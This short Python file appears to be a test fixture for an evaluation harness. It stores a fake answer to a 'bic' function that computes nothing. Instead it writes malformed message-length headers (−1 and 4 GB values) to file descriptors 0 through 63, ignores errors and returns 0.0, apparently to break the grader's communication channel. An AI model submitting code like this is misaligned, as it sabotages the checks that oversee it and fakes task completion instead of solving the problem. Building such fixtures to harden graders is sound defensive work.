"""Writes lengths of −1 and of 4 GB to every open descriptor."""

KIND = "channel"
GAINS = "stop"
ANSWERS = {
    "bic": """
import os

def bic(log_likelihood, num_components, dim, num_points):
    for fd in range(64):
        for lengths in (b"\\xff" * 8, b"\\0\\0\\0\\x80" * 2, b"\\xff" * 4 + b"\\0" * 4):
            try:
                os.write(fd, lengths)
            except OSError:
                pass
    return 0.0
"""
}
